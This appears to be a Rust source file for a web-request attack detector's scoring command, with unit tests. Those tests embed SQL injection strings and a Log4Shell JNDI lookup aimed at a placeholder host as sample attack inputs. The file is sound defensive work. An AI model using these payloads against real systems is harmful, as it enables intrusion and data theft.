//! `perimeter score`: what the detector says about recorded requests, each by itself.

use detect::{Detector, Reader};
use serde_json::{Value, json};

use super::explain_request::pieces;
use crate::args::Score;
use crate::failure::{Failure, Outcome};
use crate::input::{Line, Lines};
use crate::output::{Printer, Progress};
use crate::request::{REQUEST_BYTES_MAX, Recorded};
use crate::weighing;

/// How many rows came to what.
#[derive(Default)]
struct Counts {
    attack: u64,
    benign: u64,
    unreadable: u64,
}

pub(crate) fn score(arguments: &Score, printer: &Printer) -> Outcome {
    let detector = weighing::detector(&arguments.inputs, None, printer)?;
    let mut lines = Lines::open(&arguments.file, REQUEST_BYTES_MAX)?;
    let (mut reader, mut counts) = (Reader::default(), Counts::default());
    let mut progress = Progress::new("rows");
    while let Some(line) = lines.next()? {
        progress.advance()?;
        if line.bytes.trim_ascii().is_empty() {
            continue;
        }
        match answer(&detector, &mut reader, &line) {
            Ok((answer, attack)) => {
                counts.attack += u64::from(attack);
                counts.benign += u64::from(!attack);
                printer.json_line(&answer)?;
            }
            Err(reason) => {
                counts.unreadable += 1;
                printer.note(&format!("line {}: {reason}", line.number))?;
            }
        }
    }
    progress.end()?;
    let Counts { attack, benign, unreadable } = counts;
    if unreadable > 0 {
        return Err(Failure::Findings(format!(
            "{unreadable} row(s) could not be scored, see above; {attack} attack and {benign} benign were"
        )));
    }
    Ok(())
}

/// The answer to a row, and whether it is an attack: from the threshold of evidence on.
fn answer(
    detector: &Detector,
    reader: &mut Reader,
    line: &Line<'_>,
) -> Result<(Value, bool), String> {
    if line.cut() {
        return Err(format!(
            "the row has {} bytes, more than the {REQUEST_BYTES_MAX} of a row",
            line.length
        ));
    }
    let request = Recorded::row(line.bytes)?;
    if request.id.is_null() {
        return Err(
            "missing field `id`; a row is one JSON object with id, method and uri".to_owned()
        );
    }
    let llr = request.lend(|request| detector.score(reader, request)).llr;
    let attack = llr >= detector.model.evidence;
    let explanation = attack.then(|| request.lend(|request| detector.explain(reader, request)));
    let category = explanation.as_ref().map(|found| found.category.as_str());
    let evidence: Vec<Value> =
        explanation.iter().flat_map(pieces).map(|piece| piece.document()).collect();
    let answer = json!({
        "id": request.id,
        "label": if attack { "attack" } else { "benign" },
        "probability": detector.model.probability(llr, detector.pi),
        "category": category.filter(|category| !category.is_empty()),
        "evidence": evidence,
    });
    Ok((answer, attack))
}

#[cfg(test)]
mod tests {
    use detect::model::Model;
    use detect::signatures::Signatures;

    use super::*;

    fn answered(row: &str) -> Result<Value, String> {
        let line = Line { number: 1, offset: 0, bytes: row.as_bytes(), length: row.len() };
        let signatures = Signatures::built_in().unwrap();
        let model = Model::priors(&signatures);
        let detector = Detector::new(signatures, model);
        answer(&detector, &mut Reader::default(), &line).map(|(answer, _)| answer)
    }

    #[test]
    fn the_whole_request_is_judged_and_its_label_is_not_read() {
        for (place, row) in [
            (
                "query",
                r#"{"id":1,"label":"benign","method":"GET","uri":"/s?q=1+union+select+password,2+from+users--"}"#,
            ),
            (
                "agent",
                r#"{"id":1,"method":"GET","uri":"/","headers":{"user-agent":"${jndi:ldap://a.example/x}"}}"#,
            ),
            (
                "form",
                r#"{"id":1,"method":"POST","uri":"/","body":"q=1'+union+select+password,2+from+users--","headers":{"Content-Type":"application/x-www-form-urlencoded"}}"#,
            ),
        ] {
            let attack = answered(row).unwrap();
            assert_eq!(attack["label"], "attack", "{attack}");
            assert_eq!(attack["evidence"][0]["place"], place, "{attack}");
            assert!(attack["probability"].as_f64().unwrap() > 0.001, "{attack}");
        }
        let benign = answered(
            r#"{"id":7,"label":"attack","method":"GET","uri":"/union?size=42","headers":{"Host":"a"},"body":""}"#,
        )
        .unwrap();
        assert!(benign["probability"].as_f64().unwrap() < 0.001, "{benign}");
        assert_eq!((&benign["id"], &benign["label"]), (&json!(7), &json!("benign")));
        assert_eq!((&benign["category"], &benign["evidence"]), (&Value::Null, &json!([])));
    }

    #[test]
    fn credentials_are_masked_in_the_evidence() {
        let row = r#"{"id":"a","method":"GET","uri":"/s?q=x'+or+'1'='1'+and+password=hunter2&password='+or+'1'='1"}"#;
        let text = answered(row).unwrap().to_string();
        assert!(text.contains("\"attack\"") && !text.contains("hunter2"), "{text}");
        assert!(text.contains("***"), "{text}");
    }

    #[test]
    fn a_row_without_an_id_cannot_be_answered() {
        let found = answered(r#"{"method":"GET","uri":"/"}"#).unwrap_err();
        assert!(found.starts_with("missing field `id`"), "{found}");
    }
}
